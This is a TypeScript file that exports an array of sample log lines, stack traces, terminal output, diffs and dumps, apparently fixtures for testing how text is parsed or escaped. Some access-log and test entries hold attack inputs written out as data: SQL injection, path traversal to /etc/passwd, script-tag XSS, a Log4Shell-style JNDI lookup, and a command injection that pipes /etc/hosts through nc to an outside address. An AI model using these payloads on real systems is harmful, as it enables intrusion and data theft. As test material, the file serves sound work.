/** Log lines, stack traces, terminal output with control characters, patches, dumps and text with unusual line ends. */
export const logs: readonly string[] = [
  `192.0.2.10 - - [03/Mar/2025:10:15:32 +0000] "GET /index.html HTTP/1.1" 200 5123 "-" "curl/8.5.0"
198.51.100.23 - - [03/Mar/2025:10:15:33 +0000] "GET /?id=1%27%20UNION%20SELECT%20null,null--%20- HTTP/1.1" 400 0 "-" "-"
198.51.100.23 - - [03/Mar/2025:10:15:34 +0000] "GET /../../../../etc/passwd HTTP/1.1" 404 153 "-" "ExampleScanner/1.0"
198.51.100.23 - - [03/Mar/2025:10:15:35 +0000] "GET /q?s=<script>alert(1)</script> HTTP/1.1" 403 0 "javascript:" "\\x22"
198.51.100.23 - - [03/Mar/2025:10:15:36 +0000] "POST /cgi-bin/test.sh?;cat%20/etc/hosts|nc%20203.0.113.9 HTTP/1.0" 404 9
`,
  `203.0.113.77 - admin' OR '1'='1 [04/Mar/2025:01:02:03 +0100] "GET /?a=\${jndi:ldap://203.0.113.1/x} HTTP/1.1" 404`,
  `2025/03/03 10:20:01 [error] 31#31: *4 open() "/srv/www/.env" failed (2: No such file or directory),
client: 192.0.2.9, request: "GET /.env HTTP/1.1", host: "example.org", referrer: "http://example.org/?q=%00&x='"`,
  `Exception in thread "main" java.lang.IllegalStateException: can't parse "<none>" & give up
	at com.example.shop.Parser.parse(Parser.java:42)
	at com.example.shop.Main.lambda$main$0(Main.java:17)
	at java.base/java.util.ArrayList.forEach(ArrayList.java:1596)
	at com.example.shop.Main.<init>(Main.java:9)
Caused by: java.lang.NumberFormatException: For input string: "1 OR 1=1"
	... 3 more
`,
  `Traceback (most recent call last):
  File "/srv/app/main.py", line 12, in <module>
    main(*sys.argv[1:])
    ~~~~^^^^^^^^^^^^^^
  File "/srv/app/db.py", line 88, in run
    cur.execute("SELECT * FROM t WHERE x = '%s'" % x)
sqlite3.OperationalError: near "'; DROP TABLE t; --": syntax error

During handling of the above exception, another exception occurred:

KeyError: 'it\\'s'
`,
  String.raw`node:internal/modules/cjs/loader:1228
  throw err;
  ^

Error: Cannot find module 'C:\work\app\new\index.js'
Require stack:
- <repl>
    at Function._resolveFilename (node:internal/modules/cjs/loader:1225:15)
    at async Promise.all (index 0)
    at eval (eval at <anonymous> (file:///srv/app/run.mjs:3:1), <anonymous>:1:7) {
  code: 'MODULE_NOT_FOUND',
  requireStack: [ '<repl>' ]
}

Node.js v22.4.0
`,
  `panic: runtime error: index out of range [3] with length 3

goroutine 1 [running]:
main.(*Store).Get(0xc00001c0a8, {0x4b1d2f, 0x5})
	/srv/app/store.go:31 +0x1d
main.main()
	/srv/app/main.go:12 +0x8a
exit status 2
`,
  `thread 'main' panicked at src/main.rs:4:37:
called \`Result::unwrap()\` on an \`Err\` value: Os { code: 2, kind: NotFound, message: "No such file or directory" }
note: run with \`RUST_BACKTRACE=1\` environment variable to display a backtrace
`,
  `src/a.c: In function ‘main’:
src/a.c:7:12: warning: comparison of integer expressions of different signedness: ‘int’ and ‘size_t’ [-Wsign-compare]
    7 |   if (i < n && *p == '\\0')
      |         ^
a.c:(.text+0x1b): undefined reference to \`foo(char const*, std::vector<int, std::allocator<int> >&)'
make: *** [Makefile:12: build/app] Error 1
`,
  '\u001b[31mError:\u001b[0m \u001b[1mtests failed\u001b[22m \u001b[38;5;208m(3 of 20)\u001b[39m\u001b[2K\u001b[1A',
  '\u001b]0;make\u0007\u001b]8;;https://example.org/?a=1&b=2\u001b\\link\u001b]8;;\u001b\\ bell:\u0007',
  'Downloading  0%\rDownloading 37% [#####>        ]\rDownloading 100% [##############]\r\nDone; 3.2 MB in 4s\r\n',
  'npm \u001b[33mwarn\u001b[39m deprecated old-lib@1.0.2: use "new-lib"\r\u001b[K⠙ idealTree: tim\b\b\b  done\n',
  'Page one\n\fPage two\u000bwith a vertical tab\n\f',
  '\ufeffname;amount\r\n"Beispiel & Söhne GmbH";1.234,50\r\n"O\'Test ""Ltd""";=1+1\r\n',
  '\ufeff<?xml version="1.0"?>\n<a/>',
  '@echo off\r\nif not exist "%~dp0out" md "%~dp0out"\r\nfor %%f in (*.txt) do copy "%%f" out\\ >nul && dir\r\n',
  'id\tname\tnote\n1\tMara\t"tab\there"\n2\t\t\n\t\t\tlast\t',
  'one\rtwo\r\nthree\nfour\u0085five\u2028six\u2029seven\n\r',
  `Mar  3 10:15:01 host1 CRON[4211]: (root) CMD (test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; })
Mar  3 10:15:09 host1 sshd[4242]: Invalid user admin'-- from 203.0.113.5 port 51514
Mar  3 10:15:10 host1 sudo:   robin : TTY=pts/0 ; PWD=/home/robin ; USER=root ; COMMAND=/bin/rm -rf /tmp/x
<34>1 2025-03-03T22:14:15.003Z host1 app - ID47 [ex@32473 k="v\\]\\""] BOM'd message
`,
  String.raw`{"level":"info","time":17410001,"msg":"GET /?q=\u003cscript\u003e","req":{"cookie":"sid=EXAMPLE; a=b"}}
{"level":"error","err":{"stack":"TypeError: x is no function\n    at f (/srv/a.js:1)\n    at <anonymous>"}}
{"level":"warn","msg":"path \"C:\\temp\" isn't \/ there","n":-0.0,"ok":null}
`,
  `ts=2025-03-03T10:00:00Z level=warn msg="query failed; retrying" query="select 1 where 'a'='a'" err=<nil>`,
  `TAP version 13
ok 1 - escapes <b> & "quotes"
not ok 2 - it's "; rm -rf x" in a name
  ---
  operator: equal
  expected: '&lt;'
  actual:   '<'
  ...
1..2
# fail 1
`,
  ` FAIL  test/html.test.ts > escape > keeps \`&amp;\` once
AssertionError: expected '&amp;amp;' to be '&amp;' // Object.is equality

- Expected
+ Received

- &amp;
+ &amp;amp;

 ❯ test/html.test.ts:12:30
     10|   it('keeps', () => {
     11|     const s = escape('&');
     12|     expect(escape(s)).toBe('&amp;');
       |                       ^
 Tests  1 failed | 41 passed (42)
`,
  `diff --git a/src/page.php b/src/page.php
index 1234567..89abcde 100644
--- a/src/page.php
+++ b/src/page.php
@@ -10,3 +10,3 @@ function page(array $p): void
 ?>
-<h1><?= $p['title'] ?></h1>
+<h1><?= htmlspecialchars($p['title']) ?></h1>
 <script src="x.js"></script>
\\ No newline at end of file
`,
  `--- seeds.sql.orig\t2025-03-01 09:00:00
+++ seeds.sql\t2025-03-02 09:00:00
@@ -1 +1,2 @@
-DROP TABLE t; -- old
+DROP TABLE IF EXISTS t; /* new */
+INSERT INTO t VALUES ('it''s', 'a\\b');
`,
  `commit 89abcdef0123456789abcdef0123456789abcdef (HEAD -> main, tag: v1.2.3, origin/main)
Merge: 1234567 7654321
Author: Robin Example <robin@example.org>
Date:   Mon Mar 3 10:00:00 2025 +0100

    Merge branch 'fix/o''neill' into "main"

* 89abcde Merge branch 'fix'
|\\
| * 7654321 Don't eval() the \`input\`
|/
* 1234567 Initial commit & licence
`,
  `00000000: 3c68 746d 6c3e 0a3c 7363 7269 7074 3e27  <html>.<script>'
00000010: 3b20 4452 4f50 2054 4142 4c45 2078 3b2d  ; DROP TABLE x;-
00000020: 2d0d 0a00 ff7f 2022 5c60 2624            -..... "\\\`&$
0000002c
`,
  `VGhpcyBpcyBhbiBleGFtcGxlIG9mIGEgYmFzZTY0IGJsb2NrLiBJdCBob2xkcyBub3RoaW5nIGJ1
dCBhIHNlbnRlbmNlIG9yIHR3bywgYW5kIGl0IGVuZHMgd2l0aCBwYWRkaW5nLiAvLyArKw==
`,
  `$ ls -la | grep '^d'; echo $?
drwxr-xr-x  2 robin robin 4096 Mar  3 10:00 'a folder'
0
$ curl -sS -X POST -d '{"q":"it'"'"'s"}' 'http://localhost:3000/api?x=1&y=2' | jq -r '.items[] | "\\(.id)\\t\\(.name)"'
7	<b>seven</b>
$ cat <<EOF | sh
> echo hi
> EOF
hi
$ ^C
`,
  `HTTP/1.1 302 Found
Location: /login?next=%2Fadmin%3Fa%3D1&e='x'
Set-Cookie: sid=EXAMPLE; Path=/; HttpOnly; Secure; SameSite=Lax
Content-Security-Policy-Report-Only: default-src 'none'; report-uri /csp
X-XSS-Protection: 1; mode=block
Transfer-Encoding: chunked

5\r
<b>hi\r
0\r
\r
`,
  `+----+-----------+--------+
| id | name      | price  |
+----+-----------+--------+
|  1 | O'Test    |  <NULL>|
|  2 | "a" | 'b' |  9.99  |
+----+-----------+--------+
2 rows in set, 1 warning (0.00 sec)
`,
  `Filesystem      Size  Used Avail Use% Mounted on
/dev/root        20G   18G  1.1G  95% /
overlay          20G   18G  1.1G  95% /var/lib/x/<id>/merged`,
];
